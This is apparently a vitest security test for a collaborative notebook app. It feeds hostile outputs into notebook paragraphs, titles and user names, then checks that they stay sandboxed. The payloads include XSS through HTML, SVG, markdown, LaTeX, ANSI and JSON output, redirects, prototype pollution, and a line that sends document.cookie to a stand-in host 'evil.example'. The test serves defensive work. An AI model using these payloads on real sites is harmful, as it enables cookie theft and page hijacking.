import { expect, test } from 'vitest'
import { makeNote, operate, share } from './harness/notes.ts'
import { picture } from './harness/person.ts'
import { givenQuire } from './harness/quire.ts'

const quire = givenQuire()

const pwn =
  "window.__pwned = 1; try { top.__pwned = 1 } catch {}; try { parent.document.title = 'pwned' } catch {}"
const image = `<img src=x onerror="${pwn}">`

/** What each paragraph puts out; `shown` is what a harmless rendering of it shows. */
const outputs: Record<string, { code: string; shown: string }> = {
  html: {
    code: `display(HTML("""<p id=shown>html is shown</p><script>${pwn}
try { document.cookie = 'a=b'; fetch('https://evil.example/fetch?' + document.cookie) } catch {}
fetch('https://evil.example/fetch').catch(() => {})
new Image().src = 'https://evil.example/image'
try { top.location = 'https://evil.example/top' } catch {}
try { open('https://evil.example/popup') } catch {}
document.getElementById('shown').textContent = 'origin ' + origin</script>
${image}<base href='https://evil.example/'>
<form action='https://evil.example/form'><input name=a></form><iframe srcdoc='<script>${pwn}</script>'></iframe>
<style>* { color: red } body { position: fixed }</style>"""))`,
    shown: '',
  },
  away: { code: `display(HTML("""<script>location = 'https://evil.example/away'</script>"""))`, shown: '' },
  refresh: {
    code: `display(HTML("""<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>"""))`,
    shown: '',
  },
  svg: {
    code: `display({'image/svg+xml': """<svg xmlns='http://www.w3.org/2000/svg' width='80' height='20' onload="${pwn}"><script>${pwn}</script><image href='https://evil.example/svg.png'/><text y='15'>svg</text></svg>"""}, raw=True)`,
    shown: '',
  },
  script: { code: `display(Javascript("""${pwn}; element.textContent = 'script in its box'"""))`, shown: '' },
  markdown: {
    code: `display(Markdown("""markdown is shown [link](javascript:window.__pwned=1) [data](data:text/html,<script>1</script>) ${image} ![x](https://evil.example/md.png) $\\\\href{javascript:window.__pwned=1}{x}$"""))`,
    shown: 'markdown is shown',
  },
  latex: {
    code: `display(Latex(r"""$\\href{javascript:window.__pwned=1}{x} \\includegraphics{https://evil.example/tex.png}$"""))`,
    shown: '',
  },
  ansi: {
    code: `print("\\x1b]8;;javascript:window.__pwned=1\\x07ansi is shown\\x1b]8;;\\x07 \\x1b[31m${image.replaceAll('"', '\\"')}")`,
    shown: 'ansi is shown',
  },
  table: {
    code: `display({'text/tab-separated-values': 'name\\t${image.replaceAll("'", "\\'")}\\ntable is shown\\t<script>window.__pwned = 1</script>\\n'}, raw=True)`,
    shown: 'table is shown',
  },
  json: {
    code: `display({'application/json': {'__proto__': {'polluted': 1}, 'constructor': {'prototype': {'polluted': 1}}, 'json is shown': '${image.replaceAll("'", "\\'")}'}}, raw=True)`,
    shown: 'json is shown',
  },
  error: { code: `raise ValueError("""error is shown ${image}""")`, shown: 'error is shown' },
}

test('Hostile outputs, titles and names stay in their box', async () => {
  quire.watch.expect(/console: .*(Content.Security.Policy|evil\.example|sandbox|Unsafe attempt|Blocked)/is)
  const ana = await quire.setUp('ana')
  const { id: me } = await ana.rest.get<{ id: number }>('/me')
  await ana.rest.patch(`/users/${me}`, { displayName: image })
  const vera = await quire.invite(ana, 'vera')
  const paragraphs = Object.entries(outputs).map(([id, { code }]) => [
    id,
    `from IPython.display import *\n${code}`,
  ])
  const markdown = `%md\n# ${image}\n<script>window.__pwned = 1</script> [x](javascript:window.__pwned=1)\n\n<iframe src="https://evil.example/md"></iframe>`
  const id = await makeNote(ana, `${image}.`, { ...Object.fromEntries(paragraphs), markdown_text: markdown })
  await operate(ana, id, 'paragraph.title', { paragraph: 'ansi', title: image })
  await share(ana, id, { vera: 'reader' })

  const anas = await ana.openNote(id)
  for (const paragraph of Object.keys(outputs)) await anas.run(paragraph)
  const veras = await vera.openNote(id)
  for (const note of [anas, veras]) {
    for (const [paragraph, { shown }] of Object.entries(outputs)) {
      await note.paragraph(paragraph).scrollIntoViewIfNeeded()
      if (shown !== '') await note.showsOutput(paragraph, shown)
    }
    await note.paragraph('html').scrollIntoViewIfNeeded()
    await note.paragraph('html').locator('iframe').contentFrame().getByText('origin null').waitFor()
    await picture(note.page, note === anas ? 'hostile-owner' : 'hostile-reader')

    expect(await note.page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined()
    expect(await note.page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined()
    expect(await note.page.title()).not.toBe('pwned')
    expect(new URL(note.page.url()).pathname).toBe(`/n/${id}`)
    expect(await note.page.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0)
    expect(await note.page.context().pages()).toHaveLength(1)
  }
})
